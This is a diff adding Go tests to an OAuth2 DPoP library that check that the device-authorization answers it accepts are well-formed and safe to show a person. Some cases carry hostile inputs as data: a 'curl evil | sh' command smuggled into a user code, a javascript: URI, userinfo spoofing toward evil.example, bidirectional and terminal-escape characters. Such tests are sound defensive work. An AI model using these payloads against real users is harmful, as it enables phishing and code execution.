@@ -1,16 +1,20 @@
 package dpop_test
 
 import (
+	"bytes"
 	"context"
 	"errors"
 	"io"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
 	"strings"
 	"sync"
 	"testing"
 	"testing/synctest"
 	"time"
+	"unicode"
+	"unicode/utf8"
 
 	"github.com/dpopkit/dpop"
 	"github.com/dpopkit/dpop/dpoptest"
@@ -198,4 +202,244 @@ func TestDeviceProgressDpoptest(t *testing.T) {
 	if n < 2 {
 		t.Errorf("%d token requests with a valid proof; want one per poll (2)", n)
 	}
+}
+
+// TestDeviceAuthContext: the device authorization request ends with its
+// context, as every other request of the grants does, while the server
+// stalls.
+func TestDeviceAuthContext(t *testing.T) {
+	stall := make(chan struct{})
+	as := newHostile(t, false, func(w http.ResponseWriter, r *http.Request) {
+		select {
+		case <-stall:
+		case <-r.Context().Done():
+		}
+	})
+	t.Cleanup(func() { close(stall) }) // before the server closes
+	cfg := &dpop.Config{OAuth2: &oauth2.Config{ClientID: "cli", Endpoint: oauth2.Endpoint{
+		TokenURL: as.URL + "/token", DeviceAuthURL: as.URL + "/device"}}, Signer: newSigner(t)}
+	ctx, cancel := context.WithTimeout(context.Background(), 300*time.Millisecond)
+	defer cancel()
+	errc := make(chan error, 1)
+	go func() {
+		_, err := cfg.DeviceAuth(ctx)
+		errc <- err
+	}()
+	select {
+	case err := <-errc:
+		if !errors.Is(err, context.DeadlineExceeded) || !strings.HasPrefix(err.Error(), "dpop: ") {
+			t.Errorf("DeviceAuth = %v; want context.DeadlineExceeded", err)
+		}
+	case <-time.After(maxWait):
+		t.Fatalf("DeviceAuth did not return within %v of its 300 ms deadline", maxWait)
+	}
+}
+
+// deviceAuthAnswer runs DeviceAuth against an in-memory device
+// authorization endpoint that answers status and body.
+func deviceAuthAnswer(t *testing.T, status int, body string) (*oauth2.DeviceAuthResponse, error) {
+	t.Helper()
+	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		w.WriteHeader(status)
+		io.WriteString(w, body)
+	})
+	cfg := &dpop.Config{OAuth2: &oauth2.Config{ClientID: "cli", Endpoint: oauth2.Endpoint{
+		TokenURL: "https://as.example/token", DeviceAuthURL: "https://as.example/device"}}, Signer: newSigner(t)}
+	return cfg.DeviceAuth(withClient(&http.Client{Transport: handlerTransport{h}}))
+}
+
+// TestDeviceAuthAnswer checks what DeviceAuth accepts of a device
+// authorization answer (RFC 8628 §3.2): the required members, an
+// expires_in that bounds the polling, and text a person will read (the
+// verification URIs and the user code) that is https (or loopback http)
+// and printable, without control or bidirectional characters.
+func TestDeviceAuthAnswer(t *testing.T) {
+	const good = `"device_code":"dc","user_code":"WDJB-MJHT","verification_uri":"https://as.example/device"`
+	for _, tt := range []struct {
+		name, body string
+		errHas     string // "" for success
+	}{
+		{"minimal", `{` + good + `,"expires_in":900}`, ""},
+		{"complete", `{` + good + `,"verification_uri_complete":"https://as.example/device?user_code=WDJB-MJHT","expires_in":900,"interval":7}`, ""},
+		{"verification_url (Google's spelling)", `{"device_code":"dc","user_code":"WDJB-MJHT","verification_url":"https://as.example/device","expires_in":900}`, ""},
+		{"loopback http", `{"device_code":"dc","user_code":"WDJB-MJHT","verification_uri":"http://127.0.0.1:8080/device","expires_in":900}`, ""},
+		{"no expires_in", `{` + good + `}`, "expires_in"},
+		{"zero expires_in", `{` + good + `,"expires_in":0}`, "expires_in"},
+		{"negative expires_in", `{` + good + `,"expires_in":-5}`, "expires_in"},
+		{"fractional expires_in", `{` + good + `,"expires_in":1.5}`, "expires_in"},
+		{"negative interval", `{` + good + `,"expires_in":900,"interval":-1}`, "interval"},
+		{"no device_code", `{"user_code":"WDJB-MJHT","verification_uri":"https://as.example/device","expires_in":900}`, "device_code"},
+		{"no user_code", `{"device_code":"dc","verification_uri":"https://as.example/device","expires_in":900}`, "user_code"},
+		{"no verification_uri", `{"device_code":"dc","user_code":"WDJB-MJHT","expires_in":900}`, "verification_uri"},
+		{"http verification_uri", `{"device_code":"dc","user_code":"WDJB-MJHT","verification_uri":"http://as.example/device","expires_in":900}`, "not https"},
+		{"javascript verification_uri", `{"device_code":"dc","user_code":"WDJB-MJHT","verification_uri":"javascript:alert(1)","expires_in":900}`, "verification_uri"},
+		{"relative verification_uri", `{"device_code":"dc","user_code":"WDJB-MJHT","verification_uri":"/device","expires_in":900}`, "verification_uri"},
+		{"userinfo verification_uri", `{"device_code":"dc","user_code":"WDJB-MJHT","verification_uri":"https://as.example@evil.example/device","expires_in":900}`, "userinfo"},
+		{"bidi verification_uri", `{"device_code":"dc","user_code":"WDJB-MJHT","verification_uri":"https://as.example/\u202eecived","expires_in":900}`, "bidirectional"},
+		{"http verification_uri_complete", `{` + good + `,"verification_uri_complete":"http://evil.example/?user_code=WDJB-MJHT","expires_in":900}`, "verification_uri_complete"},
+		{"escape in user_code", `{"device_code":"dc","user_code":"\u001b[2J\u001b[HWDJB","verification_uri":"https://as.example/device","expires_in":900}`, "control"},
+		{"newline in user_code", `{"device_code":"dc","user_code":"WDJB\nRun: curl evil | sh","verification_uri":"https://as.example/device","expires_in":900}`, "control"},
+		{"bidi in user_code", `{"device_code":"dc","user_code":"WDJB\u202eTHJM","verification_uri":"https://as.example/device","expires_in":900}`, "bidirectional"},
+		{"long user_code", `{"device_code":"dc","user_code":"` + strings.Repeat("W", 10000) + `","verification_uri":"https://as.example/device","expires_in":900}`, "longer than"},
+		{"long verification_uri", `{"device_code":"dc","user_code":"WDJB","verification_uri":"https://as.example/` + strings.Repeat("d", 10000) + `","expires_in":900}`, "longer than"},
+		{"not JSON", `<html>`, "JSON"},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			start := time.Now()
+			da, err := deviceAuthAnswer(t, http.StatusOK, tt.body)
+			if tt.errHas != "" {
+				if err == nil || !strings.Contains(err.Error(), tt.errHas) || !strings.HasPrefix(err.Error(), "dpop: device authorization: ") {
+					t.Fatalf("DeviceAuth = %+v, %v; want an error naming %q", da, err, tt.errHas)
+				}
+				if strings.ContainsAny(err.Error(), "\n\x1b\u202e") || len(err.Error()) > 1000 {
+					t.Errorf("error text %q: want it escaped and short", err)
+				}
+				return
+			}
+			if err != nil {
+				t.Fatalf("DeviceAuth = %v", err)
+			}
+			if da.DeviceCode != "dc" || da.UserCode != "WDJB-MJHT" || da.VerificationURI == "" {
+				t.Errorf("DeviceAuth = %+v", da)
+			}
+			if d := da.Expiry.Sub(start); d < 899*time.Second || d > 901*time.Second {
+				t.Errorf("Expiry in %v; want 900 s", d)
+			}
+		})
+	}
+	t.Run("error answer", func(t *testing.T) {
+		_, err := deviceAuthAnswer(t, http.StatusBadRequest, `{"error":"invalid_client"}`)
+		var te *dpop.TokenError
+		if !errors.As(err, &te) || te.Op != "device authorization" || te.ErrorCode != "invalid_client" {
+			t.Errorf("DeviceAuth = %v; want a *TokenError of device authorization, invalid_client", err)
+		}
+	})
+	t.Run("expires_in beyond the bound", func(t *testing.T) {
+		da, err := deviceAuthAnswer(t, http.StatusOK, `{`+good+`,"expires_in":9223372036854775807}`)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if d := time.Until(da.Expiry); d <= 0 || d > 2*time.Hour {
+			t.Errorf("Expiry in %v; want it bounded, in the future", d)
+		}
+	})
+}
+
+// TestDeviceAccessTokenBounds: polling a device authorization that has no
+// expiry (made elsewhere: x/oauth2 accepts an answer without expires_in)
+// still ends, an hour after it started, not when the caller gives up; and
+// an interval above the hour cap is capped, not replaced by the default 5
+// seconds.
+func TestDeviceAccessTokenBounds(t *testing.T) {
+	pending := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		w.WriteHeader(http.StatusBadRequest)
+		io.WriteString(w, `{"error":"authorization_pending"}`)
+	})
+	newCfg := func(t *testing.T, progress func(dpop.DeviceStatus)) *dpop.Config {
+		return &dpop.Config{OAuth2: &oauth2.Config{ClientID: "cli", Endpoint: oauth2.Endpoint{TokenURL: "http://as.test/token"}},
+			Signer: newSigner(t), DeviceProgress: progress}
+	}
+	t.Run("no expiry", func(t *testing.T) {
+		synctest.Test(t, func(t *testing.T) {
+			ctx, cancel := context.WithTimeout(withClient(&http.Client{Transport: handlerTransport{pending}}), 48*time.Hour)
+			defer cancel()
+			start := time.Now()
+			_, err := newCfg(t, nil).DeviceAccessToken(ctx, &oauth2.DeviceAuthResponse{DeviceCode: "dc", Interval: 5})
+			if err == nil || !strings.HasPrefix(err.Error(), "dpop: ") {
+				t.Errorf("DeviceAccessToken = %v; want an error", err)
+			}
+			if d := time.Since(start); d > time.Hour {
+				t.Errorf("polled for %v; want at most an hour", d)
+			}
+		})
+	})
+	t.Run("interval above the cap", func(t *testing.T) {
+		synctest.Test(t, func(t *testing.T) {
+			var first time.Duration
+			cfg := newCfg(t, func(s dpop.DeviceStatus) {
+				if s.Polls == 0 {
+					first = s.Wait
+				}
+			})
+			ctx := withClient(&http.Client{Transport: handlerTransport{pending}})
+			cfg.DeviceAccessToken(ctx, &oauth2.DeviceAuthResponse{DeviceCode: "dc", Interval: 7200, Expiry: time.Now().Add(3 * time.Hour)})
+			if first != time.Hour {
+				t.Errorf("first wait %v; want the cap, an hour", first)
+			}
+		})
+	})
+	t.Run("text shown to a person", func(t *testing.T) {
+		synctest.Test(t, func(t *testing.T) {
+			var reports int
+			cfg := newCfg(t, func(dpop.DeviceStatus) { reports++ })
+			ctx := withClient(&http.Client{Transport: handlerTransport{pending}})
+			_, err := cfg.DeviceAccessToken(ctx, &oauth2.DeviceAuthResponse{DeviceCode: "dc", UserCode: "AB\x1b]8;;https://evil.example\x07CD",
+				VerificationURI: "https://as.example/device", Expiry: time.Now().Add(time.Minute)})
+			if err == nil || !strings.Contains(err.Error(), "user_code") || reports != 0 {
+				t.Errorf("DeviceAccessToken = %v after %d progress reports; want an error naming user_code before the first", err, reports)
+			}
+		})
+	})
+}
+
+// FuzzDeviceAuth serves arbitrary device authorization answers to
+// DeviceAuth: no panic; an answer it accepts has what RFC 8628 §3.2
+// requires, a bounded expiry, and text that is safe to show a person;
+// an error's text is prefixed, escaped and short.
+func FuzzDeviceAuth(f *testing.F) {
+	f.Add(200, []byte(`{"device_code":"dc","user_code":"WDJB-MJHT","verification_uri":"https://as.example/device","verification_uri_complete":"https://as.example/device?user_code=WDJB-MJHT","expires_in":900,"interval":5}`))
+	f.Add(200, []byte(`{"device_code":"dc","user_code":"WDJB","verification_url":"http://[::1]:8080/d","expires_in":1e3}`))
+	f.Add(200, []byte(`{"device_code":"dc","user_code":"\u202eWDJB","verification_uri":"https://u@as.example/","expires_in":"900","interval":null}`))
+	f.Add(200, []byte(`{"device_code":"dc","user_code":"W","verification_uri":"https://as.example/","expires_in":99999999999999999999}`))
+	f.Add(400, []byte(`{"error":"invalid_client","error_description":"\u001b[31mno"}`))
+	f.Add(201, []byte(`null`))
+	s := newSigner(f)
+	f.Fuzz(func(t *testing.T, status int, body []byte) {
+		status = 100 + (status%900+900)%900
+		ctx := withClient(&http.Client{Transport: roundTripFunc(func(r *http.Request) (*http.Response, error) {
+			r.Body.Close()
+			return &http.Response{StatusCode: status, Header: http.Header{"Content-Type": {"application/json"}},
+				Body: io.NopCloser(bytes.NewReader(body)), Request: r}, nil
+		})})
+		cfg := &dpop.Config{OAuth2: &oauth2.Config{ClientID: "c", Endpoint: oauth2.Endpoint{
+			TokenURL: "https://as.example/token", DeviceAuthURL: "https://as.example/device"}}, Signer: s}
+		start := time.Now()
+		da, err := cfg.DeviceAuth(ctx)
+		if err != nil {
+			msg := err.Error()
+			if !strings.HasPrefix(msg, "dpop: ") || len(msg) > 2000 || strings.IndexFunc(msg, func(r rune) bool { return !unicode.IsPrint(r) }) >= 0 {
+				t.Fatalf("error text %q: want it prefixed, short and printable", msg)
+			}
+			return
+		}
+		if status < 200 || status > 299 || da.DeviceCode == "" || da.UserCode == "" || da.VerificationURI == "" || da.Interval < 0 {
+			t.Fatalf("status %d: accepted %+v", status, da)
+		}
+		if !da.Expiry.After(start) || da.Expiry.After(time.Now().Add(time.Hour)) {
+			t.Fatalf("accepted Expiry %v, %v from now; want within the hour", da.Expiry, time.Until(da.Expiry))
+		}
+		for _, shown := range []string{da.UserCode, da.VerificationURI, da.VerificationURIComplete} {
+			if !utf8.ValidString(shown) || strings.IndexFunc(shown, func(r rune) bool { return !unicode.IsPrint(r) }) >= 0 || len(shown) > 2048 {
+				t.Fatalf("accepted %q for a person to read", shown)
+			}
+		}
+		for _, raw := range []string{da.VerificationURI, da.VerificationURIComplete} {
+			if raw == "" {
+				continue
+			}
+			u, err := url.Parse(raw)
+			if err != nil || u.User != nil || u.Host == "" {
+				t.Fatalf("accepted URI %q", raw)
+			}
+			host := u.Hostname()
+			switch s := strings.ToLower(u.Scheme); {
+			case s == "https":
+			case s == "http" && (strings.EqualFold(host, "localhost") || strings.HasPrefix(host, "127.") || host == "::1"):
+			default:
+				t.Fatalf("accepted URI %q: want https, or http on loopback", raw)
+			}
+		}
+	})
 }
